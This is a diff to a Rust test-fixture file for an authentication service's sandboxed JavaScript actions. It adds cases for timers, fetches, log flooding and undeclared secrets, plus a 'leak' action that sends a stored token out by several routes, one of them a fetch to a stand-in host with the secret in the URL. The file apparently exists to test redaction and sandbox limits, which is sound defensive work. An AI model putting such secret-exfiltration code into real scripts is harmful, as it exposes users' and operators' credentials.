@@ -11,14 +11,14 @@ use crate::workspace::{Names, Settings, Workspace, decode_identity};
 use std::sync::{Arc, OnceLock};
 
 /// Slug and body of `execute(event, api, context)`.
-pub const ACTIONS: [(&str, &str); 19] = [
+pub const ACTIONS: [(&str, &str); 26] = [
     (
         "set",
         "api.state.set('n', api.config.n ?? 1); api.state.set('late', event.authentication.aal !== 'aal0');",
     ),
     (
         "read",
-        "api.state.set('step', context.step); api.state.set('custom', context.custom); api.state.set('tokens', 'raw_token' in session); api.state.set('who', event.user?.email ?? null); api.state.set('tier', event.user?.app_metadata?.tier ?? 'none');",
+        "api.state.set('step', context.step); api.state.set('custom', context.custom); api.state.set('session', context.session); api.state.set('who', event.user?.email ?? null); api.state.set('tier', event.user?.app_metadata?.tier ?? 'none');",
     ),
     (
         "refuse",
@@ -49,8 +49,24 @@ pub const ACTIONS: [(&str, &str); 19] = [
         "const first = await Promise.race([api.fetch(api.config.url).then(() => 'fetched', e => e.code), new Promise(done => setTimeout(() => done('timer'), api.config.ms))]); api.state.set('first', first);",
     ),
     (
+        "fetch-last",
+        "api.fetch(api.config.url).catch(() => {}); api.state.set('n', 6); if (api.config.ms > 99) api.deny('sent');",
+    ),
+    (
         "wait",
         "const began = Date.now(); await new Promise(done => setTimeout(done, api.config.ms)); api.state.set('n', Date.now() - began); if (api.config.refuse) api.deny('slow');",
+    ),
+    (
+        "refuse-and-wait",
+        "api.deny('waited'); await new Promise(done => setTimeout(done, api.config.ms)); api.state.set('n', 1);",
+    ),
+    (
+        "random",
+        "const draw = () => 'rnd_' + Math.floor(Math.random() * 2 ** 52).toString(16).padStart(13, '0'); api.state.set('drawn', draw()); await null; api.state.set('again', draw());",
+    ),
+    (
+        "compute-meanwhile",
+        "const seen = []; const wait = (ms, name) => new Promise(done => setTimeout(() => { seen.push(name); done(); }, ms)); await Promise.all([api.fetch(api.config.url).then(r => r.status, e => e.code).then(() => { for (let i = 0; i < api.config.turns; i++) { } seen.push('a'); }), api.fetch(api.config.other).then(() => seen.push('b'), e => seen.push(e.code)), wait(1, 't'), wait(2, 'u')]); api.state.set('seen', seen);",
     ),
     (
         "wait-then-throw",
@@ -58,7 +74,7 @@ pub const ACTIONS: [(&str, &str); 19] = [
     ),
     (
         "timers",
-        "const seen = []; const wait = (ms, name) => new Promise(done => setTimeout(() => { seen.push(name); done(); }, ms)); const gone = setTimeout(() => seen.push('gone'), 1); clearTimeout(gone); await Promise.all([wait(api.config.ms, 'a'), wait(5, 'b'), wait(api.config.ms, 'c')]); api.state.set('seen', seen);",
+        "const seen = []; const wait = (ms, name) => new Promise(done => setTimeout(() => { seen.push(name); done(); }, ms)); const gone = setTimeout(() => seen.push('gone'), 1); clearTimeout(gone); const later = setTimeout(() => seen.push('later'), 60); setTimeout(() => clearTimeout(later), 5); await Promise.all([wait(api.config.ms, 'a'), wait(5, 'b'), wait(api.config.ms, 'c')]); api.state.set('seen', seen);",
     ),
     (
         "compute",
@@ -78,20 +94,35 @@ pub const ACTIONS: [(&str, &str); 19] = [
     ),
     (
         "metadata",
-        "api.user.setAppMetadata({ tier: api.config.tier ?? 'gold', seen: { here: true } }); api.session.setCustomClaim('claim', api.config.n ?? 7); if (api.config.fail) throw new Error('after the patch');",
+        "api.user.setAppMetadata({ [api.config.n ? 'tier' : 'level']: api.config.tier ?? 'gold', seen: { here: true } }); api.session.setCustomClaim('claim', api.config.n ?? 7); if (api.config.fail) throw new Error('after the patch');",
     ),
     (
         "secret",
         "api.state.set('header', 'Bearer ' + api.secrets.get('crm_token')); api.log('info', api.secrets.get('crm_token')); api.state.set(api.config.key ?? 'k', [api.secrets.get('crm_token'), { 'in': api.secrets.get('crm_token') }]);",
     ),
+    (
+        "leak",
+        "const s = api.secrets.get('crm_token'); const how = api.config.how; if (how === 'key') api.state.set('k' + s, 1); if (how === 'url') await api.fetch('https://d0.example.com/a?s=' + s); if (how === 'deny') api.deny('because ' + s); if (how === 'throw') throw new Error(s); if (how === 'claim') api.session.setCustomClaim('claim', [s]); if (how === 'metadata') api.user.setAppMetadata({ tier: s }); if (how === 'reject') await Promise.reject(new TypeError('with ' + s)); if (how === 'cause') api.log('error', 'see data', { s });",
+    ),
+    (
+        "undeclared",
+        "try { api.state.set('k', api.secrets.get('other_token').length); } catch (e) { api.state.set('code', 'undeclared'); }",
+    ),
+    (
+        "chatty",
+        "for (let i = 0; i < 1002; i++) api.log('debug', 'l'); await null; api.log('warn', 'last'); api.state.set('n', 1);",
+    ),
     ("off", "api.state.set('n', 5); api.deny('switched off');"),
 ];
+
+/// Actions that have a timeout of their own, 120 ms.
+pub const HURRIED: [&str; 4] = ["timers", "wait", "fetch-caught", "refuse-and-wait"];
 
 /// The name and the fields of each identity.
 pub const IDENTITIES: [(&str, &str); 6] = [
     (
         "alice",
-        "{email: alice@example.com, phone: '+4479460000', name: Alice, password: correct horse battery staple, mfa: [totp, webauthn], app_metadata: {tier: enterprise}, user_metadata: {locale: en}, email_verified: true}",
+        "{email: alice@example.com, phone: '+4479460000', name: Alice, password: correct horse battery staple, mfa: [totp, webauthn], failed_logins: 4, app_metadata: {tier: enterprise, plan: {seats: 3}}, user_metadata: {locale: en}, email_verified: true}",
     ),
     (
         "bob",
@@ -99,11 +130,11 @@ pub const IDENTITIES: [(&str, &str); 6] = [
     ),
     (
         "carol",
-        "{email: Carol@Example.com, phone: '+4479460001', password: password1, status: disabled, mfa: [sms]}",
+        "{email: Carol@Example.com, phone: '+4479460001', password: password1, status: disabled, mfa: [sms], failed_logins: 5}",
     ),
     (
         "dave",
-        "{email: dave@mailinator.com, password: Tr0ub4dor&3x, status: locked, mfa: [otp, recovery, totp]}",
+        "{email: dave@mailinator.com, password: Tr0ub4dor&3x, status: locked, mfa: [otp, recovery, totp], failed_logins: 5}",
     ),
     (
         "erin",
@@ -112,14 +143,17 @@ pub const IDENTITIES: [(&str, &str); 6] = [
     ("frank", "{email: frank@example.com}"),
 ];
 
-/// The value of the one secret.
+/// The value of the secret that every action declares.
 pub const SECRET: &str = "test-token-0123";
+/// The value of a secret that no action declares.
+pub const OTHER_SECRET: &str = "other-token-4567";
 
 /// The workspace without its flows; each case brings its own.
 pub fn workspace() -> Workspace {
     let mut settings = Settings::default();
-    let secret = (Text::from("crm_token"), Text::from(SECRET));
-    settings.secrets = Arc::new([secret].into_iter().collect());
+    let secrets = [("crm_token", SECRET), ("other_token", OTHER_SECRET)];
+    let secrets = secrets.map(|(name, value)| (Text::from(name), Text::from(value)));
+    settings.secrets = Arc::new(secrets.into_iter().collect());
     settings.breached_passwords = vec!["password1".into()];
     settings.disposable_domains = vec!["mailinator.com".into()];
     let mut names = Names::default();
@@ -160,7 +194,7 @@ fn action(slug: &str, body: &str) -> Option<Arc<Action>> {
         version: None,
         enabled: slug != "off",
         triggers: Vec::new(),
-        timeout_ms: (slug == "timers").then_some(120),
+        timeout_ms: HURRIED.contains(&slug).then_some(120),
         config_schema: None,
         secrets: vec!["crm_token".into()],
         script,
